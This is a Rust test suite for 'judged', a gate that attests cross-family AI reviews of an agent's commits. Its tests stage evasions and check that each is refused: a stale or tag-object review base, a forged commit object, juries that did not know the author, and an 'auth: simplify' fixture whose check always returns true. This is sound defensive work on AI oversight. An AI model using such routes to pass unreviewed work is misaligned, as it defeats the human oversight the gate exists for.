        "reviewedAt": "2026-11-30T10:00:00Z", "attestedAt": "2026-11-30T10:00:01Z", "witnessKeyId": key.public_key().spki_id(),
        "reviewedBase": base,
        "executor": {"host": "copilot-cli", "model": "claude-sonnet-4.6", "family": "anthropic"},
        "review": {"kind": "reviewer", "evidenceId": "cne_00000000000000000000000000000000", "path": "rubber-duck", "model": "gpt-5.4",
            "family": "openai", "identitySource": "host-session-event", "assurance": "host-recorded", "verdict": "ready", "score": 8.0}
    });
    let statement = Statement::of_commit(commit, &tree, serde_json::from_value(claim).unwrap());
    team.set_note(commit, &[&Envelope::seal(&statement, &key).line()]);
}

/// A review covers the changes from its base, so the check trusts a base only where this
/// commit's own changes begin. Each of these passed before (review helpers made them):
/// a base older than the base branch's tip, so that what the commit undoes of the branch
/// (a fix made since) was never shown; a base that is a tag object, which git follows to
/// an unreviewed commit of the range; and no base (every file shown, an orphan branch's
/// review) on a commit made on top of others.
#[test]
fn a_base_the_commits_own_changes_do_not_begin_at_covers_nothing() {
    let team = Team::new("cross-family-ok");
    let trusted = team.trusted("witness");
    let stale = team.base.clone();
    // The base branch moves on with a fix, in another clone.
    let other = team.live.tmp.path().join("other");
    git(team.live.tmp.path(), &["clone", "-q", p(&team.origin), p(&other)]);
    identify(&other, "teammate");
    fs::write(other.join("auth.rs"), "pub fn check(password: &str) -> bool { verify(password) }\n").unwrap();
    git(&other, &["add", "-A"]);
    git(&other, &["commit", "-qm", "auth: verify the password"]);
    git(&other, &["push", "-q", "origin", "HEAD:main"]);
    let fix = git(&other, &["rev-parse", "HEAD"]);

    // The agent's work, reviewed from the stale base, committed on the fix without it.
    team.write("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    git(team.agent(), &["fetch", "-q", "origin"]);
    git(team.agent(), &["reset", "-q", "--soft", "origin/main"]);
    let undoing = team.commit("cart: total");
    signed_note(&team, &undoing, Some(&stale));
    team.push();
    let range = format!("{fix}..origin/main");
    let said = row(&exited(team.check_range(&team.ci(), &trusted, &range, &[]), 10, "a stale base").stdout, &undoing);
    assert!(
        said.starts_with(&format!(
            "FAIL  line 1: the review was shown the changes since {stale}, but {fix} of the base branch came between \
             that and this commit"
        )),
        "{said}"
    );

    // A tag object naming an unreviewed commit of the range, as the base.
    team.write("src/auth.rs", "pub fn check(_password: &str) -> bool { true }\n");
    let evil = team.commit("auth: simplify");
    let object = format!("object {evil}\ntype commit\ntag x\ntagger t <t@t> 1764000000 +0000\n\nx\n");
    let tag = {
        let mut child = Command::new("git")
            .arg("-C")
            .arg(team.agent())
            .args(["hash-object", "-t", "tag", "-w", "--stdin"])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        use std::io::Write;
        child.stdin.take().unwrap().write_all(object.as_bytes()).unwrap();
        String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap().trim().to_owned()
    };
    git(team.agent(), &["update-ref", "refs/notes/carrier", &tag]);
    team.write("README.md", "A cart, totalled.\n");
    let head = team.commit("readme");
    signed_note(&team, &head, Some(&tag));
    team.push();
    git(team.agent(), &["push", "-q", "-f", "origin", "refs/notes/carrier"]);
    let said = row(&exited(team.check_range(&team.ci(), &trusted, &range, &[]), 10, "a tag as the base").stdout, &head);
    assert!(
        said.starts_with(&format!(
            "FAIL  line 1: the review was shown the changes since {tag}, which is no ancestor of this commit here"
        )),
        "{said}"
    );

    // No base at all, on a commit with parents.
    signed_note(&team, &head, None);
    team.push();
    let said = row(&exited(team.check_range(&team.ci(), &trusted, &range, &[]), 10, "no base").stdout, &head);
    assert!(said.starts_with("FAIL  line 1: the review was shown every file as new"), "{said}");
}

#[test]
fn a_trusted_file_that_is_no_list_of_keys_is_refused_naming_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    git(dir.path(), &["init", "-q"]);
    let trusted = dir.path().join("trusted");
    let check = |text: &str| {
        fs::write(&trusted, text).unwrap();
        let output = Command::new(bin("judge-evidence"))
            .args(["check", "HEAD", "--trusted", p(&trusted)])
            .current_dir(dir.path())
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(2), "{output:?}");
        assert!(output.stdout.is_empty(), "nothing is reported");
        String::from_utf8(output.stderr).unwrap()
    };
    let said = check("# witnesses\nwitness\n");
    assert!(
        said.contains(&format!(
            "judge-evidence check: --trusted {}, line 2: expected `NAME KEY`, found `witness`",
            p(&trusted)
        )),
        "{said}"
    );
    let said = check("witness abc\n");
    assert!(
        said.contains("line 1: `abc` is not a judged public key: expected 64 hex digits, as `judged key` prints it"),
        "{said}"
    );
    let said = check("# none yet\n");
    assert!(said.contains("holds no key: put one `NAME KEY` line in it per witness"), "{said}");
}

/// Implementations judged did not write read what it writes: securesystemslib verifies the
/// envelope (DSSE over PAE, an Ed25519 `SSlibKey` from the exported PEM, keyed by the
/// SPKI's SHA-256 computed on its own) and refuses it once its payload is edited; the
/// in-toto-attestation package parses the payload as a Statement and validates it.
#[test]
fn an_attestation_verifies_with_securesystemslib_and_validates_with_in_toto_attestation() {
    let Some(python) = judged_tests::verifiers::python() else { return };
    let team = Team::new("cross-family-ok");
    let reviewed = team.reviewed_commit("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    let tree = git(team.agent(), &["rev-parse", "HEAD^{tree}"]);
    let (pem, note) = (team.live.tmp.path().join("witness.pem"), team.live.tmp.path().join("note.json"));
    fs::write(&pem, team.pem()).unwrap();
    let line = team.note(&reviewed)[0].clone();
    fs::write(&note, &line).unwrap();

    let output = judged_tests::verifiers::verify(&python, &pem, &note);
    assert!(output.status.success(), "verify.py: {}", String::from_utf8_lossy(&output.stderr));
    let verified: Value = serde_json::from_slice(&output.stdout).unwrap();
    let envelope: Envelope = serde_json::from_str(&line).unwrap();
    assert_eq!(verified["verified_keyids"], serde_json::json!([envelope.signatures[0].keyid]));
    assert_eq!(verified["type"], "https://in-toto.io/Statement/v1");
    assert_eq!(verified["predicate_type"], "https://judged.dev/attestation/review/v2");
    assert_eq!(verified["reviewed_base"], team.base.as_str(), "the review began at main's commit");
    let subject = serde_json::json!([
        {"name": "commit", "digest": {"gitCommit": reviewed}},
        {"name": "tree", "digest": {"gitTree": tree}},
    ]);
    assert_eq!(verified["subject"], subject);

    let mut edited = envelope;
    let payload = String::from_utf8(Base64::decode_vec(&edited.payload).unwrap()).unwrap();
    edited.payload = Base64::encode_string(payload.replace("gpt-5.4", "gpt-5.5").as_bytes());
    fs::write(&note, edited.line()).unwrap();
    let output = judged_tests::verifiers::verify(&python, &pem, &note);
    assert_eq!(output.status.code(), Some(1), "an edited payload: {output:?}");
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("securesystemslib: the envelope does not verify"),
        "{output:?}"
    );
}

/// A cross-family jury of canned jurors that pass any work.
fn passing_jury() -> String {
    let pass = |model: &str| juror("canned.sh", &["pass", "90", model]);
    command_jury(
        [
            ("small-openai", "gpt-5.4-mini", pass("gpt-5.4-mini"), ""),
            ("small-google", "gemini-3-flash", pass("gemini-3-flash"), ""),
        ],
        pass("claude-sonnet-4.6"),
        60,
    )
}

/// A tree the gate's own cross-family jury passed is attested as the jury's verdict, which
/// the check counts where the policy counts a jury, and names where it does not.
#[test]
fn a_tree_the_jury_passed_is_attested_as_its_verdict_and_counted_only_where_the_policy_counts_juries() {
    let team = Team::configured("cross-family-ok", &format!("[gate]\npolicy = \"panel\"\n\n{}", passing_jury()));
    team.write("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    let task = serde_json::json!({"session_id": team.live.session_id, "cwd": team.agent(),
        "hook_event_name": "TaskCompleted", "task_id": "1", "task_subject": "Total the cart"});
    let hook = judge_hook(&team.live.home, task.to_string().as_bytes(), &[]);
    assert_eq!(hook.status.code(), Some(0), "the jury passes the work: {}", String::from_utf8_lossy(&hook.stderr));
    let commit = team.commit("cart: total");
    let run = exited(team.attest(&[]), 0, "attest a jury's pass");
    assert!(
        run.stdout.contains(
            "the jury (google, openai) judged claude-sonnet-4.6's work (anthropic): pass at confidence 90; jury "
        ),
        "{}",
        run.stdout
    );
    team.push();
    let (ci, trusted) = (team.ci(), team.trusted("witness"));
    let either = exited(team.check(&ci, &trusted, &["--policy", "evidence_or_panel"]), 0, "a jury counted");
    assert!(
        row(&either.stdout, &commit)
            .starts_with("ok  witness: the jury (google, openai) judged claude-sonnet-4.6's work (anthropic): pass"),
        "{}",
        either.stdout
    );
    let evidence = exited(team.check(&ci, &trusted, &[]), 10, "a jury not counted");
    let said = row(&evidence.stdout, &commit);
    assert!(
        said.starts_with(
            "FAIL  line 1: a jury's verdict, and the policy `evidence` counts only a reviewer's (--policy)"
        ),
        "{said}"
    );
    let off = exited(team.check(&ci, &trusted, &["--policy", "off"]), 2, "policy off");
    assert!(
        off.stderr.contains("`off` counts no review, so it would check nothing: drop the check instead"),
        "{}",
        off.stderr
    );
}

/// A jury asked another way than the gate asks its own (another rubric, whose "pass" means
/// something else) is not counted at the gate, so it covers no commit either: its pass is
/// never attested as the work's review (a review helper had one attested and checked).
#[test]
fn a_jury_the_gate_would_not_count_is_never_attested() {
    let team = Team::configured("cross-family-ok", &format!("[gate]\npolicy = \"panel\"\n\n{}", passing_jury()));
    team.write("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    let daemon = team.daemon.as_ref().unwrap();
    let cwd = team.agent().display().to_string();
    let asked = serde_json::json!({"cwd": cwd, "task": "Total the cart", "rubric": "persona-detect",
        "session_id": team.live.session_id});
    let reply = daemon.call("review", asked).expect("the daemon answers");
    assert_eq!((&reply["jury"]["final_verdict"], &reply["gate"]["counted"]), (&"pass".into(), &false.into()));
    let why = reply["gate"]["why"].as_str().unwrap_or_default();
    assert!(why.starts_with("it was asked another way than the gate asks its jury"), "{why}");
    team.commit("cart: total");
    let said = exited(team.attest(&[]), 11, "a jury the gate would not count").stderr.clone();
    assert!(said.contains("judged witnessed no review of this repository's work"), "{said}");
}

/// A jury never told whose work it judged (its session is none judged witnesses) could
/// seat the author's own family and cannot say its reviewers were of another: the gate
/// seats none, and nothing is attested (a review helper had one signed with a null
/// executor, and checked; another had a Claude tiebreaker pass Claude's work).
#[test]
fn a_jury_that_knew_no_author_is_never_attested() {
    let team = Team::configured("cross-family-ok", &format!("[gate]\npolicy = \"panel\"\n\n{}", passing_jury()));
    team.write("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    let task = serde_json::json!({"session_id": "00000000-0000-4000-8000-000000000000", "cwd": team.agent(),
        "hook_event_name": "TaskCompleted", "task_id": "1", "task_subject": "Total the cart"});
    let hook = judge_hook(&team.live.home, task.to_string().as_bytes(), &[]);
    let said = String::from_utf8_lossy(&hook.stderr).into_owned();
    assert_eq!(hook.status.code(), Some(2), "no jury without an author: {said}");
    assert!(said.contains("judged does not know which model wrote this work"), "{said}");
    team.commit("cart: total");
    let said = exited(team.attest(&[]), 11, "a jury that knew no author").stderr.clone();
    assert!(said.contains("judged witnessed no review of this repository's work"), "{said}");
}

/// With `[attest] auto`, the daemon attests the commit of a tree it saw reviewed on its own
/// (its watcher's tick), so the agent that commits after its review needs no extra step;
/// a commit no review saw gets no note.
#[test]
fn with_attest_auto_a_commit_of_the_reviewed_tree_gets_its_note_and_another_does_not() {
    let team = Team::configured("cross-family-ok", "[attest]\nauto = true\n");
    team.write("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    team.review();
    let reviewed = team.commit("cart: total");
    let has_note = |commit: &str| {
        let output = Command::new("git")
            .arg("-C")
            .arg(team.agent())
            .args(["notes", "--ref=judged", "show", commit])
            .output()
            .unwrap();
        output.status.success().then(|| String::from_utf8(output.stdout).unwrap())
    };
    let note = eventually("the daemon's note on the reviewed commit", std::time::Duration::from_secs(20), || {
        has_note(&reviewed)
    });
    assert_eq!(note.lines().count(), 1, "{note}");
    let again = exited(team.attest(&[]), 0, "attest by hand after the daemon");
    assert!(again.stdout.ends_with("the note in refs/notes/judged holds it already\n"), "{}", again.stdout);
    team.push();
    let run = exited(team.check(&team.ci(), &team.trusted("witness"), &[]), 0, "the daemon's note checks");
    assert!(
        row(&run.stdout, &reviewed).starts_with("ok  witness: gpt-5.4 (openai, host-recorded, rubber-duck)"),
        "{}",
        run.stdout
    );

    team.write("src/cart.rs", "pub fn total() -> u32 { 2 }\n");
    let unreviewed = team.commit("unreviewed work");
    // Two of the watcher's 2 s ticks.
    std::thread::sleep(std::time::Duration::from_secs(5));
    assert_eq!(has_note(&unreviewed), None, "a commit no review saw");
}

/// The repositories `[attest] auto` follows outlive the daemon: a commit of the reviewed
/// tree made after a restart gets its note.
#[test]
fn with_attest_auto_a_commit_made_after_a_restart_gets_its_note() {
    let mut team = Team::configured("cross-family-ok", "[attest]\nauto = true\n");
    team.write("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    team.review();
    team.restart();
    let reviewed = team.commit("cart: total");
    eventually("the restarted daemon's note on the reviewed commit", std::time::Duration::from_secs(20), || {
        let output = Command::new("git")
            .arg("-C")
            .arg(team.agent())
            .args(["notes", "--ref=judged", "show", &reviewed])
            .output()
            .unwrap();
        output.status.success().then_some(())
    });
}

/// The daemon reads the commit out of the object the client sends, never out of the
/// repository: an object of another commit than the one named is refused, and nothing is
/// signed.
#[test]
fn a_commit_object_that_is_not_the_commit_named_is_refused() {
    let team = Team::new("cross-family-ok");
    team.write("src/cart.rs", "pub fn total(items: &[u32]) -> u32 { items.iter().sum() }\n");
    team.review();
    let reviewed = team.commit("cart: total");
    team.write("src/cart.rs", "pub fn total(items: &[u32]) -> u32 { 0 }\n");
    let unreviewed = team.commit("cart: zero");
    // The unreviewed commit's id, with the reviewed commit's object (which names the
    // reviewed tree).
    let object = Command::new("git").arg("-C").arg(team.agent()).args(["cat-file", "commit", &reviewed]).output();
    let args = judged_protocol::AttestArgs {
        cwd: p(team.agent()).to_owned(),
        commit: unreviewed.clone(),
        commit_object: object.unwrap().stdout,
    };
    let socket = team.live.home.join("judged.sock");
    let reply: judged_protocol::AttestReply =
        judged_protocol::call(&socket, judged_protocol::Request::Attest(args), std::time::Duration::from_secs(60))
            .expect("judged answers");
    let judged_protocol::AttestReply::Refused(refusal) = reply else { panic!("attested a forged commit: {reply:?}") };
    assert_eq!(refusal.exit_code(), 2);
    assert_eq!(
        refusal.to_string(),
        format!(
            "the object sent as commit {unreviewed} is not that commit (it hashes to another id): send the commit as \
             `git cat-file commit {unreviewed}` prints it"
        )
    );
    assert!(git(team.agent(), &["notes", "--ref=judged", "list"]).is_empty(), "no note");

    // An object no commit is that large is refused by its size, naming the field.
    let huge = judged_protocol::AttestArgs {
        cwd: p(team.agent()).to_owned(),
        commit: unreviewed,
        commit_object: vec![b'x'; 2 << 20],
    };
    let refused = judged_protocol::call::<judged_protocol::AttestReply>(
        &socket,
        judged_protocol::Request::Attest(huge),
        std::time::Duration::from_secs(60),
    )
    .expect_err("refused")
    .to_string();
    assert!(
        refused.contains("`commit_object` is 2097152 bytes, more than the 1048576 a commit object may be"),
        "{refused}"
    );
}
